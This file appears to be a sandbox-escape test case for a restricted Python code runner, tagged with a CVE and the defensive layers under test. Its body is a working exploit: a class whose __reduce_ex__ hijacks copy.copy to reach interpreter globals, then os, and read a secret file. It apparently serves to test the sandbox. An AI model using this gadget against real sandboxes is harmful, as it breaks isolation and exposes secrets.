# class: eval-like library code
# technique: copying an object calls what its reduce method names
# advisory: CVE-2026-49444
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import copy
box = []
class Gadget:
    def __reduce_ex__(self, version):
        return (box.append, (quit.__init__.__globals__,))
copy.copy(Gadget())
g = box[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
